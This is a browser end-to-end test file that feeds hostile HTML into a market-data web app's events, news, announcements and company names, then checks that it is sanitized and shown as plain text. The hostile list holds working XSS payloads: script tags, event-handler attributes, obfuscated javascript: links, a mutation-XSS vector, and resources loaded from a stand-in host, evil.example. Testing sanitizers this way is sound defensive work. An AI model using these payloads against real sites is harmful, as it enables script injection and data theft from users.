/** Hostile texts, tested in the browser whose parser they attack. */
import type { Page } from "playwright/test";
import { boardOf } from "#e2e/board/boardReading";
import { panel, type Sent } from "#e2e/papers/mediaStories";
import { type BoardRow, rowsListed } from "#e2e/testing/boardAnswer";
import { expect, test } from "#e2e/testing/fixtures";
import { startGateway } from "#e2e/testing/gateway";
import { misplaced } from "#e2e/testing/misplaced";
import { openTap, type Tap } from "#e2e/testing/tap";
import { visit } from "#e2e/testing/visit";
import { operations } from "#wire/operations";

const evil = "https://evil.example";
/** Each of these would run code, send a request or change the page, if it were not sanitized. */
const hostile = [
  `<h1>A heading</h1><p dir="rtl">שלום</p><b>end</b>`,
  `<script>alert(1)</script><script src="${evil}/a.js"></script>`,
  `<img src=x onerror="alert(1)"><img src="${evil}/b.png"><img srcset="${evil}/c.png 1x">`,
  `<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x"></animate><script>alert(1)</script></svg>`,
  `<style>@import "${evil}/d.css"; body { display: none } .brand { background: url(${evil}/e) }</style>`,
  `<link rel="stylesheet" href="${evil}/f.css"><meta http-equiv="refresh" content="0;url=${evil}">`,
  `<p style="background: url(${evil}/g); position: fixed; inset: 0" id="root" class="topbar">covered</p>`,
  `<iframe src="javascript:alert(1)"></iframe><object data="${evil}/h"></object><embed src="${evil}/i">`,
  `<form action="${evil}/j"><input name="children" autofocus onfocus="alert(1)"><button>Go</button></form>`,
  `<a href="javascript:alert(1)">one</a> <a href=" jAvA&#x0A;script:alert(1)">two</a> <a href="data:text/html,<script>alert(1)</script>">three</a>`,
  `<a href="/board" onclick="alert(1)">four</a> <a href="//evil.example/k" target="_top">five</a>`,
  `<a href="https://elsewhere.example/">six</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<video src="${evil}/l" autoplay onloadstart="alert(1)"></video><audio src="${evil}/m"></audio>`,
  `<base href="${evil}"><details open ontoggle="alert(1)">opened</details><template><script>alert(1)</script></template>`,
];

/** A text as sent, as shown, and the name of the part left out. */
const bodies: readonly [string, string, string][] = [
  ["<p>a<script>alert(1)</script></p>", "<p>a</p>", "script"],
  ['<p onclick="alert(1)">a</p>', "<p>a</p>", "onclick"],
  ["<svg/onload=alert(1)></svg>b", "b", "svg"],
  ['<p>a<img src="cms-internal/x.png"></p>', "<p>a</p>", "img"],
  ['<p style="color: red" class="topbar" id="root">a</p>', "<p>a</p>", ""],
  ['<a href="javascript:alert(1)">a</a>', "<a>a</a>", "href"],
  ['<a href=" jAvA&Tab;script:alert(1)">a</a>', "<a>a</a>", "href"],
  ['<a href="data:text/html,x">a</a>', "<a>a</a>", "href"],
  [`<a href="javascript:alert('https:')">a</a>`, "<a>a</a>", "href"],
  ['<a href="/board?of=mailto:a">a</a>', "<a>a</a>", "href"],
  ['<a href="/board">a</a>', "<a>a</a>", "href"],
  ['<a href="//evil.example">a</a>', "<a>a</a>", "href"],
  [
    '<a href="https://sec.gov.lk/online=1?a=2" target="_top">a</a>',
    '<a href="https://sec.gov.lk/online=1?a=2" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    "",
  ],
  [
    "<h2>A</h2><ul><li><strong>b</strong></li></ul>&nbsp;&amp;",
    '<p class="body-heading">A</p><ul><li><strong>b</strong></li></ul>&nbsp;&amp;',
    "",
  ],
  ["<p>the session on one = two</p>", "<p>the session on one = two</p>", ""],
];

const long = "W".repeat(200);
const name = "<img src=x onerror=alert(1)>";
const title = `<script>alert(1)</script>\u202e${"m".repeat(200)}`;

const hostileEvents = (sent: Sent[]) => [
  ...hostile.map((body, at) => ({
    ...sent[at % sent.length],
    id: `hostile-${at}`,
    body: at === 0 ? hostile.join("\n") : body,
    title: at === 1 ? `${name}${long}` : `hostile ${at}`,
    titleImage: at === 2 ? `${evil}/n.png` : null,
    eventType: at === 3 ? "<b>ZZ</b>" : "OT",
    status: at === 4 ? "X" : "A",
    images: null,
  })),
  ...bodies.map(([body], at) => ({ ...sent[0], id: `case-${at}`, title: `case ${at}`, body, images: null })),
];
const hostileNews = (item: Sent) => ({
  ...item,
  title,
  source: `"><svg onload=alert(1)>`,
  image1: "javascript:alert(1)",
  localization: { en: { pdf: "javascript:alert(1)" }, '"><b>': { pdf: `${evil}/o.pdf` } },
});

/** Alters the answers for names, announcements, events and news. */
function attack(tap: Tap): void {
  tap.alter(operations.board.path, (body) => ({
    reqTradeSummery: (body as { reqTradeSummery: BoardRow[] }).reqTradeSummery.map((row) => ({
      ...row,
      name,
    })),
  }));
  // a symbol's page prefers the quote's name, which is not truncated
  tap.alter(operations.quote.path, (body) => {
    const { reqSymbolInfo, ...rest } = body as { reqSymbolInfo: object };
    return { ...rest, reqSymbolInfo: { ...reqSymbolInfo, name } };
  });
  tap.alter(operations.approvedAnnouncements.path, (body) => ({
    approvedAnnouncements: (body as { approvedAnnouncements: object[] }).approvedAnnouncements.map((row) => ({
      ...row,
      remarks: `${name}${long}`,
      company: "\u202e<b>",
    })),
  }));
  tap.alter(operations.events.path, (body) => hostileEvents(body as Sent[]));
  tap.alter(operations.news.path, (body) => ({
    CN: (body as { CN?: Sent[] }).CN?.slice(0, 3).map(hostileNews),
  }));
}

async function expectSoundLayout(page: Page): Promise<void> {
  await expect(page.getByRole("navigation").first()).toBeVisible();
  await expect(page.locator("img[src=x]")).toHaveCount(0);
  await expect.poll(() => page.evaluate(misplaced)).toEqual([]);
}

async function expectSafeMedia(page: Page): Promise<void> {
  const events = panel(page, "Events");
  const shown = events.locator("[data-field=body]");
  await expect(shown.first()).toContainText("A heading");
  await expect(events.getByText("Left out of this text").first()).toContainText("script");
  await expect(
    shown.locator("script, img, svg, style, link, iframe, object, form, [style], [id], [class=topbar]"),
  ).toHaveCount(0);
  const links = shown.first().locator("a[href]");
  await expect(links).toHaveCount(1);
  await expect(links).toHaveAttribute("href", "https://elsewhere.example/");
  await expect(links).toHaveAttribute("rel", /noopener/);
  await expect(links).toHaveAttribute("target", "_blank");
  await expect(events.getByText("status X")).toBeVisible();
  await expect(events.getByText("<b>ZZ</b>", { exact: true })).toBeVisible();
  await expect(panel(page, "News").getByText("<script>alert(1)</script>").first()).toBeVisible();
  const documents = panel(page, "News").locator("a[hreflang]");
  await expect(documents.first()).toBeAttached();
  await expect(documents.and(page.locator(':not([href^="/files/"])'))).toHaveCount(0);
}

/** An editor's markup stays in the text, and every part left out is named. */
async function expectEditedBodies(page: Page): Promise<void> {
  const stories = panel(page, "Events").getByRole("article");
  for (const [at, [sent, shown, leftOut]] of bodies.entries()) {
    const heading = page.getByRole("heading", { name: `case ${at}`, exact: true });
    const story = stories.filter({ has: heading });
    await expect(story.locator("[data-field=body]"), sent).toHaveJSProperty("innerHTML", shown);
    const told = story.getByText("Left out of this text");
    if (leftOut) await expect(told, sent).toHaveText(`Left out of this text: ${leftOut}`);
    else await expect(told, sent).toHaveCount(0);
  }
}

test("hostile texts run nothing, send no request, break no layout, and are shown as text", async ({
  page,
  stack,
  complaints,
}) => {
  // a picture that the files host lacks is only a failed request
  complaints.allow(
    /^console: Failed to load resource: the server responded with a status of 404 \(Not Found\) \(http:\/\/127\.0\.0\.1:\d+\/files\//,
  );
  // a tap and a server of their own, because a server keeps such texts after the test
  const tap = await openTap(stack.exchange.url);
  attack(tap);
  const server = await startGateway(["--upstream", tap.url, "--pace", "0.1", "--log-level", "error"]);
  const [line] = await rowsListed(stack.exchange);
  await page.goto(`${server.url}/media`);
  await test.step("events and news", async () => {
    await expectSafeMedia(page);
    await expectEditedBodies(page);
    await expectSoundLayout(page);
  });
  await test.step("disclosures", async () => {
    await visit(page, "/disclosures");
    const inbox = page.getByRole("region", { name: "Inbox" });
    const row = inbox.locator('li[data-operation="approvedAnnouncements"]').first();
    await expect(row).toContainText(name);
    await row.locator("button[aria-expanded]").first().click();
    await expect(row.locator("[data-field=remarks]").first()).toContainText(name);
    await expectSoundLayout(page);
  });
  await test.step("names of companies", async () => {
    await visit(page, "/board?columns=identity");
    await expect(boardOf(page).getByText(name).first()).toBeVisible();
    await expectSoundLayout(page);
    await visit(page, `/s/${line?.symbol}`);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(name);
    await expectSoundLayout(page);
  });
  // a page without its server would complain
  await page.close();
  await server.stop();
  await tap.close();
});
